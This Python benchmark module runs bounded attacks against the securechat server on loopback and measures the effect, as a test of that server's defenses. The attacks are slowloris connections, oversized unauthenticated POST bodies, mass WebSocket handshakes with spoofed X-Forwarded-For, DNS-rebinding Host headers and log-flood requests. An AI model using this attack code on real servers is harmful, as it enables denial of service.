"""The attacks of docs/SECURITY.md against a real `securechat serve`, with numbers.

python -m bench.attacks [--only slowloris,bodies,unjoined,...]

Each attack starts `securechat serve` from this checkout in a subprocess on 127.0.0.1 (the
attacker's sockets use other loopback addresses), runs for a bounded time and prints what it
measured: legitimate requests that still worked, the server's CPU, log lines, RSS. Run it
from an older checkout to get the "before" column. Every loop is bounded by a count or a
deadline, and all traffic stays on loopback.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from pathlib import Path

from .runner import CLK_TCK, PAGE, REPO, free_port

HOST = "127.0.0.1"


class Server:
    """`securechat serve` in a subprocess with its stderr in a file."""

    def __init__(self, workdir: Path, env: dict[str, str] | None = None, nofile: tuple[int, int] | None = None):
        self.port = free_port()
        self.stderr_path = workdir / f"serve-{self.port}.log"
        environment = {k: v for k, v in os.environ.items() if not k.startswith("SECURECHAT_")}
        environment.update(env or {}, XDG_RUNTIME_DIR=str(workdir / "run"), NO_COLOR="1",
                           PYTHONPATH=str(REPO))

        def limits():
            if nofile:
                resource.setrlimit(resource.RLIMIT_NOFILE, nofile)

        with self.stderr_path.open("w") as sink:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "cli", "serve", "--port", str(self.port), "--data-dir",
                 str(workdir / f"data-{self.port}")], cwd=REPO, env=environment, preexec_fn=limits,
                stdout=subprocess.DEVNULL, stderr=sink)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if self.get("/healthz") == 200:
                return
            time.sleep(0.05)
        raise RuntimeError(f"securechat did not start: {self.stderr_path.read_text()[-2000:]}")

    def get(self, path: str, timeout: float = 2, source: str = "127.0.0.9", host: str | None = None) -> int | str:
        """One request from another address; the status, or what went wrong."""
        try:
            sock = socket.create_connection((HOST, self.port), timeout=timeout, source_address=(source, 0))
        except OSError as exc:
            return type(exc).__name__
        try:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host or f'{HOST}:{self.port}'}\r\n"
                         f"Connection: close\r\n\r\n".encode())
            head = sock.recv(200)
            return int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/") else "closed"
        except OSError as exc:
            return type(exc).__name__
        finally:
            sock.close()

    def cpu_seconds(self) -> float:
        fields = Path(f"/proc/{self.proc.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLK_TCK

    def rss_mib(self) -> float:
        return int(Path(f"/proc/{self.proc.pid}/statm").read_text().split()[1]) * PAGE / 2**20

    def log_lines(self) -> tuple[int, int]:
        text = self.stderr_path.read_bytes()
        return text.count(b"\n"), len(text)

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


def probe(server: Server, seconds: float, path: str = "/healthz") -> dict:
    """Legitimate requests every 0.25 s for `seconds`: how many got 200."""
    answers = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        answers.append(server.get(path))
        time.sleep(0.25)
    return {"legit_ok": sum(1 for a in answers if a == 200), "legit_tried": len(answers),
            "legit_failures": sorted({str(a) for a in answers if a != 200})}


# -- slowloris -------------------------------------------------------------------------------


def slowloris(workdir: Path, count: int = 1100, seconds: float = 15, hard_nofile: int = 1024) -> dict:
    """`count` half-sent request heads from one address, kept up for `seconds`, under the
    descriptor limit a systemd service gets by default (soft 1024)."""
    server = Server(workdir, nofile=(1024, hard_nofile))
    held: list[socket.socket] = []
    stop = threading.Event()
    opened = [0]

    def attacker():
        while not stop.is_set():
            while len(held) < count and not stop.is_set():
                try:
                    sock = socket.create_connection((HOST, server.port), timeout=2, source_address=("127.0.0.2", 0))
                    sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a: ")
                    held.append(sock)
                    opened[0] += 1
                except OSError:
                    time.sleep(0.01)
            for sock in list(held):  # a byte now and then keeps a head "in progress"
                try:
                    sock.send(b"b")
                except OSError:
                    held.remove(sock)
                    sock.close()
            stop.wait(1.0)

    try:
        lines0 = server.log_lines()
        thread = threading.Thread(target=attacker, daemon=True)
        thread.start()
        time.sleep(2)
        cpu0 = server.cpu_seconds()
        result = probe(server, seconds)
        cpu = (server.cpu_seconds() - cpu0) / seconds
        stop.set()
        thread.join(10)
        lines, size = server.log_lines()
        result.update(attack_connections_opened=opened[0], server_cpu_percent=round(100 * cpu),
                      log_lines=lines - lines0[0], log_bytes=size - lines0[1])
        return result
    finally:
        for sock in held:
            sock.close()
        server.stop()


# -- bodies ----------------------------------------------------------------------------------


def bodies(workdir: Path, count: int = 5, size: int = 100 * 2**20 - 1) -> dict:
    """`count` unauthenticated POSTs to the admin API, each announcing `size` bytes and sending
    all but the last one."""
    server = Server(workdir, env={"SECURECHAT_TOKEN": "attack-bench-token-0123456789"})
    socks: list[socket.socket] = []
    try:
        rss0 = server.rss_mib()
        chunk = b"x" * 2**20
        refused_at_once = 0
        for _ in range(count):
            sock = socket.create_connection((HOST, server.port), timeout=5, source_address=("127.0.0.3", 0))
            sock.sendall(f"POST /api/admin/logs/rotate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                         f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n".encode())
            socks.append(sock)
            sent = 0
            try:
                while sent < size - 1:
                    sent += sock.send(chunk[: min(len(chunk), size - 1 - sent)])
            except OSError:
                refused_at_once += 1
        time.sleep(1)
        return {"posts": count, "refused_before_the_body": refused_at_once,
                "rss_growth_mib": round(server.rss_mib() - rss0, 1)}
    finally:
        for sock in socks:
            sock.close()
        server.stop()


# -- never-joined WebSockets -----------------------------------------------------------------


def _ws_open(port: int, forwarded: str) -> socket.socket | int:
    """A WebSocket handshake claiming `forwarded` through the trusted-proxy header; the socket,
    or the refusal's status."""
    sock = socket.create_connection((HOST, port), timeout=5)
    sock.sendall((f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                  f"X-Forwarded-For: {forwarded}\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            sock.close()
            return 0
        head += chunk
    status = int(head.split(b" ", 2)[1])
    if status != 101:
        sock.close()
        return status
    return sock


def unjoined(workdir: Path, addresses: int = 313, per_address: int = 32) -> dict:
    """addresses x per_address WebSockets that never join, all from one IPv6 /64 (through a
    trusted proxy's X-Forwarded-For, since loopback has one IPv6 address), then a newcomer."""
    server = Server(workdir, env={"SECURECHAT_PROXY_TRUSTED": "127.0.0.1"})
    held: list[socket.socket] = []
    refused: dict[str, int] = {}
    try:
        for a in range(1, addresses + 1):
            for _ in range(per_address):
                result = _ws_open(server.port, f"2001:db8:1:2::{a:x}")
                if isinstance(result, socket.socket):
                    held.append(result)
                else:
                    refused[str(result)] = refused.get(str(result), 0) + 1
        newcomer = _ws_open(server.port, "2001:db8:9:9::1")
        newcomer_result = 101 if isinstance(newcomer, socket.socket) else newcomer
        if isinstance(newcomer, socket.socket):
            newcomer.close()
        # What is still open after the join deadline (15 s by default)?
        time.sleep(17)
        alive = 0
        for sock in held:
            sock.setblocking(False)
            try:
                while True:
                    data = sock.recv(65536)
                    if not data:
                        break
            except BlockingIOError:
                alive += 1
            except OSError:
                pass
        return {"attempted": addresses * per_address, "accepted": len(held), "refused": refused,
                "newcomer": newcomer_result, "open_after_17s": alive}
    finally:
        for sock in held:
            sock.close()
        server.stop()


# -- rebinding and log floods ---------------------------------------------------------------


def _request(port: int, head: bytes, whole: bool = True) -> bytes:
    sock = socket.create_connection((HOST, port), timeout=5)
    try:
        sock.sendall(head)
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
            if not whole and b"\r\n\r\n" in reply:
                break
        return reply
    except OSError:
        return b""
    finally:
        sock.close()


def _status(reply: bytes) -> int | str:
    return int(reply.split(b" ", 2)[1]) if reply.startswith(b"HTTP/") else "closed"


def rebinding(workdir: Path, name: str = "rebind.attacker.example") -> dict:
    """What a DNS-rebinding page gets: the page, and the WebSocket handshake, under its own name."""
    server = Server(workdir)
    try:
        page = _request(server.port, f"GET / HTTP/1.1\r\nHost: {name}:{server.port}\r\nConnection: close\r\n\r\n".encode())
        ws = _request(server.port, (f"GET /ws HTTP/1.1\r\nHost: {name}:{server.port}\r\nUpgrade: websocket\r\n"
                                    f"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                                    f"Sec-WebSocket-Version: 13\r\nOrigin: http://{name}:{server.port}\r\n\r\n").encode(), whole=False)
        return {"page": _status(page), "websocket": _status(ws[:200])}
    finally:
        server.stop()


def logflood(workdir: Path, count: int = 1000) -> dict:
    """count refused requests of five kinds: how many log lines they cost."""
    server = Server(workdir, env={"SECURECHAT_TOKEN": "attack-bench-token-0123456789"})
    kinds = [
        b"GET /static/%00 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
        b"GET /api/admin/status HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer x\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: rebind.attacker.example\r\nConnection: close\r\n\r\n",
        b"GET /static/%ff HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1 extra\r\nHost: 127.0.0.1\r\n\r\n",
    ]
    try:
        lines0 = server.log_lines()
        statuses: dict[str, int] = {}
        for i in range(count):
            status = str(_status(_request(server.port, kinds[i % len(kinds)])))
            statuses[status] = statuses.get(status, 0) + 1
        time.sleep(0.5)
        lines, size = server.log_lines()
        tracebacks = server.stderr_path.read_text().count("embedded null byte")
        return {"requests": count, "statuses": statuses, "log_lines": lines - lines0[0],
                "log_bytes": size - lines0[1], "nul_path_errors_logged": tracebacks}
    finally:
        server.stop()


# -- roster amplification ---------------------------------------------------------------------


def roster(workdir: Path, members: int = 20, seconds: float = 10, rate: float = 10.0) -> dict:
    """A member asks for the roster at the frame rate limit (10/s) for `seconds`, with
    `members` others in the room: bytes the server sends for each byte it is sent."""
    import asyncio

    from securechat.client import ChatClient

    # The members all join from 127.0.0.1; the join budget would stop them, not the attacker.
    server = Server(workdir, env={"SECURECHAT_JOINS_PER_MINUTE": "1000"})

    async def scenario() -> dict:
        url = f"ws://{HOST}:{server.port}/ws"
        others = []
        for i in range(members):
            client = ChatClient(url, f"member{i}")
            await client.connect()
            others.append(client)
        attacker = ChatClient(url, "mallory")
        await attacker.connect()
        request = '{"v":1,"type":"roster"}'
        sent = received = answers = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            await attacker.ws.write_message(request)
            sent += len(request) + 6  # WebSocket framing of a short masked client frame
            await asyncio.sleep(1 / rate)
            while True:
                try:
                    text = await asyncio.wait_for(attacker.ws.read_message(), 0.001)
                except asyncio.TimeoutError:
                    break
                if text is None:
                    break
                if '"type":"roster"' in text:
                    answers += 1
                    received += len(text.encode()) + 4
        await asyncio.sleep(ROSTER_DRAIN)
        while True:
            try:
                text = await asyncio.wait_for(attacker.ws.read_message(), 0.2)
            except asyncio.TimeoutError:
                break
            if text is None:
                break
            if '"type":"roster"' in text:
                answers += 1
                received += len(text.encode()) + 4
        for client in [attacker, *others]:
            client.close()
        return {"members": members + 1, "requests_bytes": sent, "roster_answers": answers,
                "answer_bytes": received, "bytes_out_per_byte_in": round(received / sent)}

    try:
        return asyncio.run(scenario())
    finally:
        server.stop()


ROSTER_DRAIN = 2.5

ATTACKS = {"roster": roster, "slowloris": slowloris, "bodies": bodies, "unjoined": unjoined, "rebinding": rebinding,
           "logflood": logflood}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks", description=__doc__.splitlines()[0])
    parser.add_argument("--only", help="comma-separated: " + ",".join(ATTACKS))
    args = parser.parse_args(argv)
    names = args.only.split(",") if args.only else list(ATTACKS)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    results = {}
    with tempfile.TemporaryDirectory(prefix="securechat-attacks-") as tmp:
        for name in names:
            print(f"{name} ...", file=sys.stderr, flush=True)
            results[name] = ATTACKS[name](Path(tmp))
            print(json.dumps({name: results[name]}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
